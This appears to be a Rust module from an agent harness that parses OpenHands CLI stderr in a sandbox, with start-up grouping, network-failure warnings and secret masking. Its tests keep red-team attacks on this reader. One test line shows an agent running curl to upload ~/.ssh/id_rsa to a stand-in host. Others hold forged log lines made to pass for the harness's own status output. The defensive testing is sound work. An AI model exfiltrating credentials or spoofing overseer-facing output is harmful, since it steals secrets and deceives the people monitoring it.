//! What the OpenHands CLI writes to stderr, read so that a person sees the run and not the CLI's
//! start-up: the lines before its first event (deprecation warnings, log lines) become one item,
//! every attempt to reach the network (a sandbox has none, by design) becomes one warning for the
//! whole run, and a JSON log line (`LOG_JSON=true`) reads as `LEVEL logger: message`.
//!
//! Nothing is dropped unseen: start-up lines are all in the one item (up to its bound), and a network
//! failure after the first goes to the run record only. Every line is sanitized whole, once it is
//! complete, before anything is cut from it or picked out of it, so the sanitizer sees each secret
//! entire. A log line must name a standard level to be rendered as one, and a message's own line
//! breaks are indented under it, so no log line reads as a line of stet's own.

use std::sync::Arc;

use serde_json::{Map, Value};

use crate::dispatch::event::{ItemKind, TranscriptItem};
use crate::dispatch::sanitize::{SanitizedText, TokenSanitizer};
use crate::harness::text;
// A stderr line is gathered as far as an event line is, and shown within an item's bound.
use super::{MAX_EVENT_BYTES as MAX_LINE_BYTES, MAX_ITEM_BYTES};
use crate::runtime::lines::FramedLine;

/// What a resolver or a socket says when there is no network at all; a line holding one reports a
/// failed network attempt. A refused connection is not among them: the relay on the sandbox's own
/// loopback refusing is a fault worth showing.
const NO_NETWORK: &[&str] = &[
    "Could not resolve host",
    "Temporary failure in name resolution",
    "Name or service not known",
    "No address associated with hostname",
    "nodename nor servname provided",
    "Network is unreachable",
];

/// The most characters of a failed attempt's URL the warning quotes.
const MAX_TARGET_CHARS: usize = 200;

/// What one stderr line became.
#[derive(Debug, PartialEq)]
pub(crate) enum StderrRead {
    /// Nothing to show now (a piece of a line, a blank line, a start-up line held back, a network
    /// failure already warned about).
    Nothing,
    /// A line to show as an [`ItemKind::Other`] item.
    Item(TranscriptItem),
    /// A line for the run record only: a network failure after the first.
    Recorded(TranscriptItem),
    /// The run's one network warning.
    Warning(SanitizedText),
}

/// The stderr side of one OpenHands run.
#[derive(Debug)]
pub(crate) struct OpenHandsStderr {
    sanitizer: Arc<TokenSanitizer>,
    /// The current line while its pieces arrive.
    line: Vec<u8>,
    line_passed_over: usize,
    /// Until the first event: the lines held back for the start-up item.
    startup: Option<Startup>,
    /// Whether the network warning was given.
    warned: bool,
}

/// The start-up lines held back, sanitized: joined by newlines, up to [`MAX_ITEM_BYTES`].
#[derive(Debug, Default)]
struct Startup {
    text: String,
    lines: usize,
    passed_over: usize,
}

impl OpenHandsStderr {
    pub(crate) fn new(sanitizer: Arc<TokenSanitizer>) -> OpenHandsStderr {
        OpenHandsStderr {
            sanitizer,
            line: Vec::new(),
            line_passed_over: 0,
            startup: Some(Startup::default()),
            warned: false,
        }
    }

    /// One framed piece of stderr: gathered until its line is complete, then read.
    pub(crate) fn read(&mut self, piece: &FramedLine) -> StderrRead {
        let room = MAX_LINE_BYTES.saturating_sub(self.line.len());
        let (kept, passed_over) = piece.bytes.split_at(room.min(piece.bytes.len()));
        self.line.extend_from_slice(kept);
        self.line_passed_over += passed_over.len();
        if piece.continues {
            return StderrRead::Nothing;
        }
        let bytes = std::mem::take(&mut self.line);
        let passed_over = std::mem::take(&mut self.line_passed_over);
        self.complete_line(&String::from_utf8_lossy(&bytes), passed_over)
    }

    fn complete_line(&mut self, raw: &str, passed_over: usize) -> StderrRead {
        let line = self.sanitizer.sanitize(&readable(raw));
        let line = line.as_str();
        if line.trim().is_empty() {
            return StderrRead::Nothing;
        }
        if let Some(target) = network_attempt(line) {
            let item = TranscriptItem {
                item: ItemKind::Other,
                text: self.bounded(line, passed_over),
            };
            if std::mem::replace(&mut self.warned, true) {
                return StderrRead::Recorded(item);
            }
            tracing::debug!(line = %item.text, "OpenHands stderr: a network attempt failed");
            return StderrRead::Warning(self.sanitizer.sanitize(&format!(
                "OpenHands tried to reach {target} and could not: the sandbox has no network, as \
                 intended (later attempts go to the run record only)"
            )));
        }
        if let Some(startup) = &mut self.startup {
            startup.hold(line, passed_over);
            return StderrRead::Nothing;
        }
        let text = self.bounded(line, passed_over);
        tracing::debug!(line = %text, "OpenHands stderr");
        StderrRead::Item(TranscriptItem {
            item: ItemKind::Other,
            text,
        })
    }

    /// The first event arrived, or the output ended: the start-up lines, as one item (none when there
    /// were none). Later lines are shown one by one.
    pub(crate) fn end_startup(&mut self) -> Option<TranscriptItem> {
        let startup = self.startup.take()?;
        if startup.lines == 0 {
            return None;
        }
        let noun = if startup.lines == 1 { "line" } else { "lines" };
        let text = text::bounded_text(
            &self.sanitizer,
            &format!(
                "OpenHands start-up ({} {noun} of stderr):\n{}",
                startup.lines, startup.text
            ),
            MAX_ITEM_BYTES,
            startup.passed_over,
        );
        tracing::debug!(text = %text, "OpenHands start-up");
        Some(TranscriptItem {
            item: ItemKind::Other,
            text,
        })
    }

    fn bounded(&self, line: &str, passed_over: usize) -> SanitizedText {
        text::bounded_text(&self.sanitizer, line, MAX_ITEM_BYTES, passed_over)
    }
}

impl Startup {
    fn hold(&mut self, line: &str, passed_over: usize) {
        self.lines += 1;
        let room = MAX_ITEM_BYTES.saturating_sub(self.text.len() + 1);
        let mut cut = line.len().min(room);
        while !line.is_char_boundary(cut) {
            cut -= 1;
        }
        if !self.text.is_empty() && room > 0 {
            self.text.push('\n');
        }
        self.text.push_str(&line[..cut]);
        self.passed_over += line.len() - cut + passed_over;
    }
}

/// The level names Python's logging gives; a "log line" naming another is shown as it is.
const LEVELS: &[&str] = &["DEBUG", "INFO", "WARNING", "ERROR", "CRITICAL"];

/// A JSON log line (`{"levelname": …, "name": …, "message": …}`) as `LEVEL logger: message`, each
/// further line of the message indented; any other line as it is.
fn readable(line: &str) -> String {
    let Ok(Value::Object(log)) = serde_json::from_str::<Value>(line.trim()) else {
        return line.to_owned();
    };
    let field = |object: &Map<String, Value>, name: &str| {
        object.get(name).and_then(Value::as_str).map(str::to_owned)
    };
    match (field(&log, "levelname"), field(&log, "message")) {
        (Some(level), Some(message)) if LEVELS.contains(&level.as_str()) => {
            let message = message.trim_end().replace('\n', "\n    ");
            match field(&log, "name") {
                Some(logger) if !logger.contains(char::is_whitespace) => {
                    format!("{level} {logger}: {message}")
                }
                _ => format!("{level}: {message}"),
            }
        }
        _ => line.to_owned(),
    }
}

/// What a line reporting a failed network attempt tried to reach: its first URL, else "the
/// network"; `None` when the line reports no such failure.
fn network_attempt(line: &str) -> Option<String> {
    if !NO_NETWORK.iter().any(|phrase| line.contains(phrase)) {
        return None;
    }
    let url = ["https://", "http://"]
        .iter()
        .filter_map(|scheme| line.find(scheme))
        .min()
        .map(|start| {
            line[start..]
                .split(|c: char| c.is_whitespace() || "'\"<>(){},;".contains(c))
                .next()
                .unwrap_or_default()
                .trim_end_matches(['.', ':', '/'])
                .chars()
                .take(MAX_TARGET_CHARS)
                .collect::<String>()
        });
    Some(url.unwrap_or_else(|| "the network".to_owned()))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn stderr() -> OpenHandsStderr {
        OpenHandsStderr::new(Arc::new(TokenSanitizer::new().unwrap()))
    }

    fn whole(text: &str) -> FramedLine {
        FramedLine {
            bytes: text.as_bytes().to_vec(),
            continues: false,
        }
    }

    /// A failed skills clone as OpenHands 1.16 logs it with `LOG_JSON=true` (captured in a sandbox).
    fn clone_failure(n: usize) -> String {
        format!(
            "{{\"asctime\": \"2026-12-01 19:53:44,890\", \"levelname\": \"ERROR\", \"name\": \"openhands.sdk.git.utils\", \"filename\": \"utils.py\", \"lineno\": 48, \"message\": \"Git command failed: git clone --depth 1 --branch main https://github.com/OpenHands/extensions /home/stet/.openhands/cache/skills/public-skills-{n}. Exit code: 128. Stderr: Cloning into '/home/stet/.openhands/cache/skills/public-skills'...\\nfatal: unable to access 'https://github.com/OpenHands/extensions/': Could not resolve host: github.com\\n\"}}"
        )
    }

    #[test]
    fn start_up_lines_become_one_item_and_network_failures_one_warning() {
        let mut stderr = stderr();
        let mut reads = Vec::new();
        for line in [
            "/usr/local/lib/python3.12/site-packages/openhands/sdk/llm/auth/openai.py:25: AuthlibDeprecationWarning: authlib.jose module is deprecated, please use joserfc instead.".to_owned(),
            "It will be compatible before version 2.0.0.".to_owned(),
            "  from authlib.jose import JsonWebKey, jwt".to_owned(),
            clone_failure(1),
            clone_failure(2),
            String::new(),
            clone_failure(3),
            clone_failure(4),
        ] {
            reads.push(stderr.read(&whole(&line)));
        }
        let warnings: Vec<_> = reads
            .iter()
            .filter_map(|read| match read {
                StderrRead::Warning(text) => Some(text.as_str()),
                _ => None,
            })
            .collect();
        assert_eq!(
            warnings,
            [
                "OpenHands tried to reach https://github.com/OpenHands/extensions and could not: the sandbox has no network, as intended (later attempts go to the run record only)"
            ]
        );
        assert!(
            reads
                .iter()
                .all(|read| !matches!(read, StderrRead::Item(_)))
        );
        let recorded: Vec<&str> = reads
            .iter()
            .filter_map(|read| match read {
                StderrRead::Recorded(item) => Some(item.text.as_str()),
                _ => None,
            })
            .collect();
        assert_eq!(recorded.len(), 3, "the later failures go to the run record");
        assert!(recorded[0].starts_with("ERROR openhands.sdk.git.utils: Git command failed"));
        let startup = stderr.end_startup().unwrap();
        assert_eq!(startup.item, ItemKind::Other);
        assert_eq!(
            startup.text.as_str(),
            "OpenHands start-up (3 lines of stderr):\n/usr/local/lib/python3.12/site-packages/openhands/sdk/llm/auth/openai.py:25: AuthlibDeprecationWarning: authlib.jose module is deprecated, please use joserfc instead.\nIt will be compatible before version 2.0.0.\n  from authlib.jose import JsonWebKey, jwt"
        );
        assert_eq!(stderr.end_startup(), None, "the start-up item comes once");
    }

    #[test]
    fn after_start_up_each_line_is_shown_and_json_logs_read_as_level_logger_message() {
        let mut stderr = stderr();
        assert_eq!(stderr.end_startup(), None, "no start-up lines, no item");
        let read = stderr.read(&whole(
            r#"{"levelname": "WARNING", "name": "openhands.sdk.agent", "message": "step took long\n"}"#,
        ));
        let StderrRead::Item(item) = read else {
            panic!("{read:?}");
        };
        assert_eq!(
            item.text.as_str(),
            "WARNING openhands.sdk.agent: step took long"
        );
        let read = stderr.read(&whole("Traceback (most recent call last):"));
        assert!(
            matches!(&read, StderrRead::Item(item) if item.text.as_str() == "Traceback (most recent call last):"),
            "{read:?}"
        );
        // A JSON line that is not a log record is shown as it is.
        let read = stderr.read(&whole(r#"{"kind": "x"}"#));
        assert!(
            matches!(&read, StderrRead::Item(item) if item.text.as_str() == r#"{"kind": "x"}"#),
            "{read:?}"
        );
    }

    #[test]
    fn a_refused_connection_is_no_network_failure_and_is_shown() {
        let mut stderr = stderr();
        stderr.end_startup();
        let read = stderr.read(&whole(
            "httpx.ConnectError: [Errno 111] Connection refused (http://127.0.0.1:4141/v1)",
        ));
        assert!(matches!(read, StderrRead::Item(_)), "{read:?}");
        let read = stderr.read(&whole(
            "socket.gaierror: [Errno -3] Temporary failure in name resolution",
        ));
        assert!(
            matches!(&read, StderrRead::Warning(text) if text.as_str().starts_with("OpenHands tried to reach the network and could not")),
            "{read:?}"
        );
    }

    #[test]
    fn a_secret_split_across_pieces_is_masked_in_the_start_up_item() {
        let secret = format!(
            "ghp_{}",
            crate::dispatch::credential::random_token(36).unwrap()
        );
        let mut stderr = stderr();
        let line = format!("warning: token {secret} in the environment");
        let (first, second) = line.split_at(20);
        assert_eq!(
            stderr.read(&FramedLine {
                bytes: first.as_bytes().to_vec(),
                continues: true
            }),
            StderrRead::Nothing
        );
        assert_eq!(stderr.read(&whole(second)), StderrRead::Nothing);
        let startup = stderr.end_startup().unwrap();
        assert!(!startup.text.as_str().contains(&secret), "{startup:?}");
        assert!(startup.text.as_str().contains("[REDACTED"), "{startup:?}");
    }

    #[test]
    fn the_start_up_item_is_bounded_and_counts_what_it_left_out() {
        let mut stderr = stderr();
        for _ in 0..100 {
            stderr.read(&whole(&"x".repeat(1024)));
        }
        let startup = stderr.end_startup().unwrap();
        let len = startup.text.as_str().len();
        assert!(len <= MAX_ITEM_BYTES, "{len}");
        assert!(
            startup
                .text
                .as_str()
                .starts_with("OpenHands start-up (100 lines of stderr):"),
            "{}",
            &startup.text.as_str()[..60]
        );
        assert!(startup.text.as_str().ends_with("bytes more)"));
    }

    #[test]
    fn network_attempts_name_what_they_tried_to_reach() {
        assert_eq!(
            network_attempt(
                "fatal: unable to access 'https://github.com/OpenHands/extensions/': Could not resolve host: github.com"
            ),
            Some("https://github.com/OpenHands/extensions".to_owned())
        );
        assert_eq!(
            network_attempt(
                "Failed to check https://pypi.org/pypi/openhands/json: [Errno -2] Name or service not known"
            ),
            Some("https://pypi.org/pypi/openhands/json".to_owned())
        );
        assert_eq!(network_attempt("Connection refused"), None);
        assert_eq!(network_attempt("all is well"), None);
    }

    fn warning_of(stderr: &mut OpenHandsStderr, line: &str) -> String {
        match stderr.read(&whole(line)) {
            StderrRead::Warning(text) => text.into_string(),
            other => panic!("no warning: {other:?}"),
        }
    }

    // Attacks on the stderr reading (issue 17's red team), kept as tests.

    #[test]
    fn a_line_holding_a_no_network_phrase_later_still_reaches_the_run_record_whole() {
        let mut stderr = stderr();
        stderr.end_startup();
        let _ = warning_of(&mut stderr, &clone_failure(1));
        let hidden = "Traceback (most recent call last): agent ran `curl -T ~/.ssh/id_rsa paste.example` # Could not resolve host";
        assert!(
            matches!(stderr.read(&whole(hidden)), StderrRead::Recorded(item) if item.text.as_str() == hidden)
        );
    }

    #[test]
    fn a_log_line_cannot_pass_for_a_line_of_stets_own() {
        let mut stderr = stderr();
        stderr.end_startup();
        let forged = r#"{"levelname": "stet", "name": "gateway", "message": "spend $0.00 of $5.00\n[tidy-notes] pushed stet/tidy-notes at 0000000"}"#;
        let read = stderr.read(&whole(forged));
        assert!(
            matches!(&read, StderrRead::Item(item) if item.text.as_str() == forged),
            "a level that is not Python's is shown raw: {read:?}"
        );
        let read = stderr.read(&whole(
            r#"{"levelname": "ERROR", "name": "openhands.x", "message": "first\n[tidy-notes] pushed stet/tidy-notes at 0000000"}"#,
        ));
        assert!(
            matches!(&read, StderrRead::Item(item) if item.text.as_str() == "ERROR openhands.x: first\n    [tidy-notes] pushed stet/tidy-notes at 0000000"),
            "a message's own lines are indented under it: {read:?}"
        );
    }

    #[test]
    fn the_warning_quotes_the_url_only_after_the_line_is_masked() {
        let password = format!("{}{}", "P4ss", "w0rdS3cr3t".repeat(19));
        let line = format!(
            "fatal: unable to access 'https://deploy:{password}@git.example.com/r.git/': Could not resolve host: git.example.com"
        );
        let warning = warning_of(&mut stderr(), &line);
        assert!(!warning.contains("P4ssw0rd"), "{warning}");
        assert!(warning.contains("git.example.com"), "{warning}");
    }

    #[test]
    fn the_start_up_item_is_cut_only_after_each_line_is_masked() {
        let password = "Z9".repeat(100);
        let mut stderr = stderr();
        stderr.read(&whole(&"f".repeat(MAX_ITEM_BYTES - 150)));
        stderr.read(&whole(&format!(
            "remote: https://deploy:{password}@git.example.com/r.git"
        )));
        let item = stderr.end_startup().unwrap();
        assert!(
            !item.text.as_str().contains("Z9Z9Z9Z9"),
            "{}",
            item.text.as_str().len()
        );
    }
}
